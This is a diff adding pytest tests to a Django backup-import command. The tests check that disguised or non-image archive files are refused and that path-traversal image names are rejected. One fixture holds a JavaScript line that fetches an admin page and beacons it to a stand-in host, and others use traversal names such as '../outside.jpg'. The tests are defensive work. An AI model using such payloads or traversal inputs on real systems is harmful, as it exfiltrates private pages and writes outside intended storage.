@@ -229,6 +229,63 @@ def test_restoring_staff_status_never_changes_an_existing_user(backup, make_user
     assert not stella.is_staff and not stella.is_superuser
 
 
+def with_last_image(backup, path, *, name, data, content_type):
+    """A copy of the archive whose last prediction's image is `data`, archived as `name` with `content_type`."""
+    with tarfile.open(backup) as archive:
+        rows = [json.loads(line) for line in archive.extractfile("predictions.jsonl").read().splitlines()]
+    archived_name = rows[-1]["image"]
+    rows[-1] |= {"image": name, "content_type": content_type}
+    written = "".join(json.dumps(row) + "\n" for row in rows).encode()
+    replace = {"predictions.jsonl": written, f"files/{name}": data}
+    return repack(backup, path, leave_out={f"files/{archived_name}"}, replace=replace)
+
+
+def test_an_archived_image_gets_the_content_type_and_suffix_of_what_its_bytes_are(backup, tmp_path):
+    truck = Prediction.objects.order_by("pk").last()
+    jpeg = truck.image.read()
+    truck.image.close()
+    disguised = with_last_image(
+        backup, tmp_path / "disguised.tar.gz", name="predictions/x.js", data=jpeg, content_type="text/javascript"
+    )
+    delete_everything()
+    import_backup(disguised)
+    restored = Prediction.objects.get(original_name="truck.jpg")
+    assert restored.image.name == "predictions/x.jpg" and restored.content_type == "image/jpeg"
+    assert restored.image.read() == jpeg
+    restored.image.close()
+
+
+def test_an_archived_file_that_is_not_an_accepted_image_is_a_one_line_error_and_changes_nothing(
+    backup, tmp_path, media_root
+):
+    script = with_last_image(
+        backup,
+        tmp_path / "script.tar.gz",
+        name="predictions/x.js",
+        data=b"fetch('/admin/').then(page => navigator.sendBeacon('//example.invalid', page));\n",
+        content_type="text/javascript",
+    )
+    delete_everything()
+    with pytest.raises(
+        CommandError, match="The image predictions/x.js in the archive is refused: it is not a"
+    ) as error:
+        import_backup(script)
+    assert "\n" not in str(error.value)
+    assert not User.objects.exists() and not Prediction.objects.exists() and not Conversation.objects.exists()
+    assert media_files(media_root) == []
+
+
+@pytest.mark.parametrize("name", ["../outside.jpg", "/etc/outside.jpg", ".", "predictions/.."])
+def test_an_image_name_outside_storage_or_without_a_file_name_is_refused(backup, tmp_path, media_root, name):
+    with tarfile.open(backup) as archive:
+        jpeg = archive.extractfile(f"files/{Prediction.objects.order_by('pk').last().image.name}").read()
+    unsafe = with_last_image(backup, tmp_path / "unsafe.tar.gz", name=name, data=jpeg, content_type="image/jpeg")
+    delete_everything()
+    with pytest.raises(CommandError, match="not a safe storage name"):
+        import_backup(unsafe)
+    assert not Prediction.objects.exists() and media_files(media_root) == []
+
+
 def test_an_identical_image_in_storage_is_reused_and_a_different_one_is_never_overwritten(backup, media_root):
     frog, ship = Prediction.objects.filter(original_name__in=["frog.png", "ship.jpg"]).order_by("original_name")
     frog_bytes = frog.image.read()
